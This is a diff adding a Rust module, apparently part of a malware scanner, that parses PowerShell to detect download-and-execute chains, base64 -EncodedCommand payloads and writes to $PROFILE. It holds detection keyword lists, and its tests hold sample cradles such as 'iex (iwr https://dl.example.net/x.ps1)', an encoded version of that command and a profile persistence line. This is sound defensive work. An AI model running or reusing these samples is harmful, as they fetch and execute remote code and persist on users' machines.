@@ -1,0 +1,208 @@
+//! PowerShell read as a syntax tree (tree-sitter-powershell): downloads that reach
+//! `Invoke-Expression` through a variable, commands given as `-EncodedCommand` base64
+//! (decoded from UTF-16LE and read again as PowerShell), and writes to the profile script,
+//! which runs at every start. What one line shows (`iwr … | iex`, a TCP client wired to
+//! `iex`, Run keys, scheduled tasks, credential files read, the encoded command itself) stays
+//! with the line readers, which read every PowerShell file too: one finding per fact.
+
+use super::engine::{Engine, Lang};
+use super::value::Origin;
+
+const RUNS_TEXT: &[&str] = &["iex", "invoke-expression"];
+const DOWNLOADERS: &[&str] =
+    &["iwr", "irm", "invoke-webrequest", "invoke-restmethod", "curl", "wget", "start-bitstransfer"];
+const DOWNLOAD_METHODS: &[&str] = &["downloadstring(", "downloaddata(", "downloadfile(", "getstringasync("];
+const POWERSHELLS: &[&str] = &["powershell", "powershell.exe", "pwsh", "pwsh.exe"];
+
+/// One command of a pipeline: its name, lower-cased, and its arguments as written.
+struct Command<'a> {
+    name: String,
+    args: Vec<&'a str>,
+    start: usize,
+    end: usize,
+}
+
+pub fn walk(eng: &mut Engine, code: &str, base: usize) {
+    let language: tree_sitter::Language = tree_sitter_powershell::LANGUAGE.into();
+    let Some(tree) = super::tree_sitter_parse(&language, code) else { return };
+    // Variables assigned a download: (`$name`, lower-cased; where).
+    let mut downloaded: Vec<(String, Origin)> = Vec::new();
+    let mut stack = vec![tree.root_node()];
+    while let Some(node) = stack.pop() {
+        match node.kind() {
+            "assignment_expression" => {
+                if let (Some(left), Some(value)) = (node.child(0), node.child(node.child_count().saturating_sub(1)))
+                    && let Some(how) = download_in(&code[value.byte_range()])
+                {
+                    let name = code[left.byte_range()].trim().to_ascii_lowercase();
+                    let what = format!("downloads with {how}");
+                    downloaded.push((name, Origin { at: base + node.start_byte(), what }));
+                }
+            }
+            "command" => {
+                if let Some(command) = command_of(code, node) {
+                    read_command(eng, base, &command, &downloaded);
+                }
+            }
+            _ => {}
+        }
+        let mut cursor = node.walk();
+        let children: Vec<_> = node.children(&mut cursor).collect();
+        stack.extend(children.into_iter().rev());
+    }
+}
+
+fn command_of<'a>(code: &'a str, node: tree_sitter::Node) -> Option<Command<'a>> {
+    let name_node = node.child_by_field_name("command_name").or_else(|| {
+        let mut cursor = node.walk();
+        node.children(&mut cursor).find(|c| c.kind() == "command_name" || c.kind() == "command_name_expr")
+    })?;
+    let name = code[name_node.byte_range()].trim_matches(['"', '\'']).to_ascii_lowercase();
+    let mut args = Vec::new();
+    let mut cursor = node.walk();
+    for child in node.children(&mut cursor).filter(|c| c.kind() == "command_elements") {
+        let mut inner = child.walk();
+        for element in child.named_children(&mut inner).filter(|e| e.kind() != "command_argument_sep") {
+            args.push(&code[element.byte_range()]);
+        }
+    }
+    Some(Command { name, args, start: node.start_byte(), end: node.end_byte() })
+}
+
+/// The download a piece of code makes, by its cmdlet or method.
+fn download_in(code: &str) -> Option<&'static str> {
+    let lower = code.to_ascii_lowercase();
+    let words: Vec<&str> = lower.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '.')).collect();
+    DOWNLOADERS
+        .iter()
+        .find(|d| words.contains(d))
+        .or_else(|| DOWNLOAD_METHODS.iter().find(|m| lower.contains(*m)))
+        .copied()
+}
+
+fn read_command(eng: &mut Engine, base: usize, c: &Command, downloaded: &[(String, Origin)]) {
+    let (start, end) = (base + c.start, base + c.end);
+    let args_lower: Vec<String> = c.args.iter().map(|a| a.to_ascii_lowercase()).collect();
+    let name = c.name.as_str();
+    if RUNS_TEXT.contains(&name) {
+        // A variable that holds a download, run: the one-line cradle is the line readers'.
+        for (var, origin) in downloaded {
+            if args_lower.iter().any(|a| mentions(a, var)) {
+                eng.flow("remote-code-run", start, end, origin, &format!("runs it with {name}"));
+                return;
+            }
+        }
+    }
+    if POWERSHELLS.contains(&name)
+        && let Some(i) = args_lower.iter().position(|a| is_encoded_flag(a))
+        && let Some(payload) = c.args.get(i + 1)
+        && let Some(decoded) = utf16_base64(payload.trim_matches(['"', '\'']))
+    {
+        // The encoded command itself is the line readers' finding; what it holds is read here.
+        let why = format!("in the encoded command ({})", first_words(&decoded));
+        eng.rescan(&decoded, Lang::PowerShell, start, end, &why);
+    }
+    if matches!(name, "add-content" | "ac" | "set-content" | "sc" | "out-file")
+        && args_lower.iter().any(|a| a.trim_matches(['"', '\'']).starts_with("$profile"))
+    {
+        eng.sink.report(
+            "persistence-shell-rc",
+            start,
+            end,
+            format!("{name} writes to the PowerShell profile, run at every start"),
+        );
+    }
+}
+
+/// `-e`, `-ec`, `-en`, `-enc`, … `-encodedcommand`: PowerShell takes any prefix of a parameter.
+fn is_encoded_flag(arg: &str) -> bool {
+    let flag = arg.trim_start_matches('-');
+    arg.starts_with('-') && (flag == "e" || flag == "ec" || (flag.len() >= 2 && "encodedcommand".starts_with(flag)))
+}
+
+fn mentions(arg: &str, var: &str) -> bool {
+    arg.match_indices(var)
+        .any(|(i, _)| arg[i + var.len()..].chars().next().is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_')))
+}
+
+/// An `-EncodedCommand` payload: base64 of UTF-16LE text (UTF-8 accepted too).
+fn utf16_base64(s: &str) -> Option<String> {
+    let bytes = super::value::base64(s)?;
+    let text = if bytes.len() >= 4 && bytes.len() % 2 == 0 && bytes.iter().skip(1).step_by(2).all(|b| *b == 0) {
+        let units: Vec<u16> = bytes.chunks_exact(2).map(|p| u16::from_le_bytes([p[0], p[1]])).collect();
+        String::from_utf16(&units).ok()?
+    } else {
+        String::from_utf8(bytes).ok()?
+    };
+    (text.trim().len() >= 4 && text.chars().all(|c| !c.is_control() || c.is_whitespace())).then_some(text)
+}
+
+fn first_words(text: &str) -> String {
+    let one_line = text.split_whitespace().collect::<Vec<_>>().join(" ");
+    match one_line.char_indices().nth(60) {
+        Some((i, _)) => format!("{}…", &one_line[..i]),
+        None => one_line,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::scan::scan_text;
+
+    fn ids(path: &str, text: &str) -> Vec<(&'static str, &'static str)> {
+        let mut ids: Vec<_> = scan_text(path, text, false).iter().map(|f| (f.rule.id, f.severity.as_str())).collect();
+        ids.sort_unstable();
+        ids.dedup();
+        ids
+    }
+
+    #[test]
+    fn a_download_kept_in_a_variable_and_run_is_remote_code() {
+        let ps = "$u = 'https://dl.example.net/a.ps1'\n$s = (New-Object Net.WebClient).DownloadString($u)\nWrite-Host 'ok'\nInvoke-Expression $s\n";
+        assert!(ids("setup.ps1", ps).contains(&("remote-code-run", "critical")), "{:?}", ids("setup.ps1", ps));
+        let saved = "$s = Invoke-WebRequest -Uri 'https://dl.example.net/notes.txt'\nWrite-Output $s.Content\n";
+        assert!(!ids("fetch.ps1", saved).iter().any(|(id, _)| *id == "remote-code-run"));
+    }
+
+    #[test]
+    fn encoded_commands_are_decoded_and_read() {
+        // "iex (iwr https://dl.example.net/x.ps1)" as UTF-16LE, base64.
+        let payload: Vec<u8> =
+            "iex (iwr https://dl.example.net/x.ps1)".encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
+        let b64 = base64_encode(&payload);
+        let ps = format!("powershell.exe -NoProfile -EncodedCommand {b64}\n");
+        let found = ids("run.ps1", &ps);
+        // The line reader reports the encoded command itself; the parser reads what it holds.
+        assert!(found.contains(&("obfuscated-exec", "critical")), "{found:?}");
+        assert!(found.iter().any(|(id, _)| *id == "remote-code-run"), "{found:?}");
+        assert!(ids("run.ps1", "powershell.exe -NoProfile -File .\\build.ps1\n").is_empty());
+    }
+
+    #[test]
+    fn writes_to_the_profile_persist() {
+        let profile = "Add-Content -Path $PROFILE -Value 'iex (gc C:\\x.txt -Raw)'\n";
+        assert!(
+            ids("p.ps1", profile).iter().any(|(id, _)| *id == "persistence-shell-rc"),
+            "{:?}",
+            ids("p.ps1", profile)
+        );
+        let reads = "Get-Content $PROFILE\nWrite-Output \"profile at $PROFILE\"\n";
+        assert!(ids("p.ps1", reads).is_empty(), "{:?}", ids("p.ps1", reads));
+    }
+
+    fn base64_encode(bytes: &[u8]) -> String {
+        const ABC: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let mut out = String::new();
+        for chunk in bytes.chunks(3) {
+            let n = chunk.iter().enumerate().fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
+            for i in 0..4 {
+                if i <= chunk.len() {
+                    out.push(ABC[(n >> (18 - 6 * i) & 63) as usize] as char);
+                } else {
+                    out.push('=');
+                }
+            }
+        }
+        out
+    }
+}
